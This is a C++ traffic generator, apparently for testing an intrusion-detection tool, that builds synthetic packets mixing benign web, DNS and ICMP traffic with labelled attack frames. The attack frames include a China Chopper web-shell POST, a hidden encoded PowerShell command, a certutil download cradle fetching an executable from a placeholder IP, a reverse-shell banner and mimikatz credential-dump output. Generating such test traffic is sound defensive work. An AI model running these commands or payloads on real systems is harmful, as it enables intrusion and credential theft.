// SPDX-License-Identifier: Apache-2.0
#include "dejfa/trafficgen.hpp"

#include <random>
#include <string>

#include "dejfa/pktbuild.hpp"

namespace dejfa {

namespace {

class Traffic {
 public:
  explicit Traffic(const GenOptions& o) : rng_(o.seed), opt_(o) {}

  std::vector<GenFrame> run() {
    std::vector<GenFrame> out;
    out.reserve(opt_.packets);
    std::uint64_t ts = 1764115200ULL * 1'000'000'000ULL;  // 2025-11-26T00:00:00Z
    for (std::uint64_t i = 0; i < opt_.packets; ++i) {
      ts += 20'000 + u(200'000);  // 20-220 µs apart
      out.push_back(GenFrame{ts, p(opt_.attack_share) ? attack() : benign()});
    }
    return out;
  }

 private:
  std::uint32_t u(std::uint32_t n) {
    return std::uniform_int_distribution<std::uint32_t>(0, n - 1)(rng_);
  }
  bool p(double x) { return std::bernoulli_distribution(x)(rng_); }

  // Every random draw is its own statement, in the order the draws are made: operands and
  // function arguments are evaluated in an order the language leaves open (GCC and Clang
  // differ), so a draw inside one would make the traffic of a seed depend on the compiler.
  // The order is the one GCC's builds made before this was fixed, so their captures are unchanged.
  IpAddr home() {
    const std::uint32_t hi = 1 + u(250);
    const std::uint32_t lo = 1 + u(250);
    return IpAddr::v4(0x0A010000U | hi << 8 | lo);
  }
  IpAddr internet() {
    static constexpr std::uint32_t kNets[] = {0xC6336400U, 0xCB007100U, 0xC0000200U};  // RFC 5737
    return IpAddr::v4(kNets[u(3)] | (1 + u(250)));
  }
  IpAddr home6() {
    auto a = *parse_ip("fd00:10::1");
    a.b[15] = static_cast<std::uint8_t>(1 + u(250));
    return a;
  }
  IpAddr internet6() {
    auto a = *parse_ip("2001:db8:100::1");
    a.b[15] = static_cast<std::uint8_t>(1 + u(250));
    return a;
  }
  std::uint16_t eph() { return static_cast<std::uint16_t>(32768 + u(28000)); }
  static std::vector<std::uint8_t> b(const std::string& s) { return {s.begin(), s.end()}; }
  std::string word(std::size_t n) {
    std::string s;
    for (std::size_t i = 0; i < n; ++i) s += static_cast<char>('a' + u(26));
    return s;
  }

  /// A TCP frame from a home host's ephemeral port to an internet host's `dp`.
  FrameSpec out(std::uint16_t dp, std::uint8_t flags, std::vector<std::uint8_t> payload) {
    const std::uint16_t sp = eph();
    const IpAddr d = internet();
    const IpAddr s = home();
    return tcp(s, d, sp, dp, flags, std::move(payload));
  }
  /// A TCP frame from an internet host's ephemeral port to a home host's `dp`.
  FrameSpec in(std::uint16_t dp, std::uint8_t flags, std::vector<std::uint8_t> payload) {
    const std::uint16_t sp = eph();
    const IpAddr d = home();
    const IpAddr s = internet();
    return tcp(s, d, sp, dp, flags, std::move(payload));
  }

  FrameSpec tcp(IpAddr s, IpAddr d, std::uint16_t sp, std::uint16_t dp, std::uint8_t flags,
                std::vector<std::uint8_t> payload) {
    FrameSpec f;
    f.v6 = s.v6;
    f.src = s;
    f.dst = d;
    f.proto = 6;
    f.sport = sp;
    f.dport = dp;
    f.tcp_flags = flags;
    f.payload = std::move(payload);
    if (p(0.08)) f.vlans = {static_cast<std::uint16_t>(100 + u(10))};
    return f;
  }

  std::vector<std::uint8_t> dns_query(const std::string& name) {
    std::vector<std::uint8_t> q = {static_cast<std::uint8_t>(u(256)),
                                   static_cast<std::uint8_t>(u(256)),
                                   0x01,
                                   0x00,
                                   0x00,
                                   0x01,
                                   0,
                                   0,
                                   0,
                                   0,
                                   0,
                                   0};
    std::size_t start = 0;
    while (start <= name.size()) {
      const auto dot = name.find('.', start);
      const auto end = dot == std::string::npos ? name.size() : dot;
      q.push_back(static_cast<std::uint8_t>(end - start));
      q.insert(q.end(), name.begin() + static_cast<long>(start),
               name.begin() + static_cast<long>(end));
      if (dot == std::string::npos) break;
      start = dot + 1;
    }
    q.insert(q.end(), {0x00, 0x00, 0x01, 0x00, 0x01});
    return q;
  }

  /// A DNS query from a home host to the resolver 8.8.8.8.
  std::vector<std::uint8_t> dns_frame(const std::string& name) {
    FrameSpec f;
    f.src = home();
    f.dst = IpAddr::v4(0x08080808);
    f.proto = 17;
    f.sport = eph();
    f.dport = 53;
    f.payload = dns_query(name);
    return build_frame(f);
  }

  std::vector<std::uint8_t> benign() {
    switch (u(10)) {
      case 0:
      case 1:
      case 2: {  // HTTP request
        const std::string host = word(6);
        const std::string page = word(3 + u(10));
        const std::string req = "GET /" + page + ".html HTTP/1.1\r\nHost: www." + host +
                                ".example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n";
        return build_frame(out(80, 0x18, b(req)));
      }
      case 3: {  // HTTP response
        std::string body(200 + u(1200), 'x');
        for (auto& c : body) c = static_cast<char>('a' + u(26));
        const std::string resp = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " +
                                 std::to_string(body.size()) + "\r\n\r\n" + body;
        const std::uint16_t dp = eph();
        const IpAddr d = home();
        const IpAddr src = internet();
        return build_frame(tcp(src, d, 80, dp, 0x18, b(resp)));
      }
      case 4:  // DNS query
        return dns_frame("www." + word(4 + u(8)) + ".com");
      case 5: {  // TLS-like application data
        std::vector<std::uint8_t> d(60 + u(1300));
        for (auto& c : d) c = static_cast<std::uint8_t>(u(256));
        d[0] = 0x17;
        d[1] = 0x03;
        d[2] = 0x03;
        return build_frame(out(443, 0x18, d));
      }
      case 6: {  // TCP handshake / ACKs
        static constexpr std::uint8_t kFlags[] = {0x02, 0x12, 0x10, 0x11, 0x14};
        const std::uint8_t flags = kFlags[u(5)];
        return build_frame(out(443, flags, {}));
      }
      case 7: {  // ICMP echo
        FrameSpec f;
        f.src = home();
        f.dst = internet();
        f.proto = 1;
        f.icmp_type = p(0.5) ? 8 : 0;
        f.payload = b("abcdefghijklmnopqrstuvwabcdefghi");
        return build_frame(f);
      }
      case 8: {  // IPv6 web
        const std::string req = "GET / HTTP/1.1\r\nHost: v6." + word(5) + ".example\r\n\r\n";
        const std::uint16_t sp = eph();
        const IpAddr d = internet6();
        const IpAddr src = home6();
        return build_frame(tcp(src, d, sp, 80, 0x18, b(req)));
      }
      default: {  // IPv6 DNS, sometimes with a hop-by-hop header
        FrameSpec f;
        f.v6 = true;
        f.src = home6();
        f.dst = internet6();
        f.proto = 17;
        f.sport = eph();
        f.dport = 53;
        if (p(0.2)) f.ip6_ext = {{0, 8}};
        f.payload = dns_query(word(6) + ".example.net");
        return build_frame(f);
      }
    }
  }

  std::vector<std::uint8_t> attack() {
    const std::uint32_t kind = u(16);
    switch (kind) {
      case 0:    // NULL scan
      case 1: {  // Xmas scan
        const auto dp = static_cast<std::uint16_t>(1 + u(1024));
        return build_frame(in(dp, kind == 0 ? 0x00 : 0x29, {}));
      }
      case 2:  // SYN-FIN
        return build_frame(in(22, 0x03, {}));
      case 3:  // inbound SMB
        return build_frame(in(445, 0x02, {}));
      case 4:  // inbound RDP
        return build_frame(in(3389, 0x02, {}));
      case 5: {  // China Chopper
        const std::string body =
            "POST /upload/1.php HTTP/1.1\r\nHost: intranet\r\nContent-Type: "
            "application/x-www-form-urlencoded\r\n\r\ncaidao=@eval(base64_decode($_POST[z0]));&z0="
            "QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO0BzZXRfdGltZV9saW1pdCgwKTs=";
        return build_frame(in(80, 0x18, b(body)));
      }
      case 6: {  // PlugX beacon
        const std::string req = "POST /update?wd=" + word(8) +
                                " HTTP/1.1\r\nX-Session: 0\r\nX-Status: 0\r\nX-Size: 61456\r\n"
                                "X-Sn: 1\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 7.0)\r\n\r\n";
        return build_frame(out(443, 0x18, b(req)));
      }
      case 7: {  // encoded PowerShell
        const std::string s =
            "cmd /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA";
        return build_frame(in(5985, 0x18, b(s)));
      }
      case 8: {  // reverse shell banner
        const std::string s =
            "Microsoft Windows [Version 10.0.17763.1]\r\n(c) 2018 Microsoft "
            "Corporation.\r\n\r\nC:\\>";
        return build_frame(out(4444, 0x18, b(s)));
      }
      case 9:  // DNS to a dynamic-DNS zone
        return dns_frame(word(7) + ".3322.org");
      case 10: {  // ICMP timestamp probe
        FrameSpec f;
        f.src = internet();
        f.dst = home();
        f.proto = 1;
        f.icmp_type = 13;
        f.payload.assign(12, 0);
        return build_frame(f);
      }
      case 11: {  // certutil download cradle
        const std::string s = "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe";
        return build_frame(in(445, 0x18, b(s)));
      }
      case 12: {  // trusted internal scanner (pass rule)
        const std::uint16_t sp = eph();
        const IpAddr d = home();
        return build_frame(tcp(IpAddr::v4(0x0AFFFF01), d, sp, 445, 0x02, {}));
      }
      case 13: {  // memcached amplification probe
        FrameSpec f;
        f.src = internet();
        f.dst = home();
        f.proto = 17;
        f.sport = eph();
        f.dport = 11211;
        // The memcached UDP frame header then "stats" (a std::string of all 15 bytes: a plain
        // literal would end at its first NUL; clang-tidy's
        // bugprone-string-literal-with-embedded-nul found that these frames had no payload at all).
        f.payload = b(std::string("\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n", 15));
        return build_frame(f);
      }
      case 14: {  // truncated frame
        auto fr = build_frame(out(80, 0x18, b("GET / HTTP/1.1\r\n\r\n")));
        fr.resize(14 + 20 + 8);
        return fr;
      }
      default: {  // mimikatz output over a tunnel
        const std::string s = "mimikatz # sekurlsa::logonpasswords\r\nAuthentication Id : 0 ; 999";
        return build_frame(out(8443, 0x18, b(s)));
      }
    }
  }

  std::mt19937_64 rng_;
  GenOptions opt_;
};

}  // namespace

std::vector<GenFrame> generate_traffic(const GenOptions& opt) { return Traffic(opt).run(); }

}  // namespace dejfa
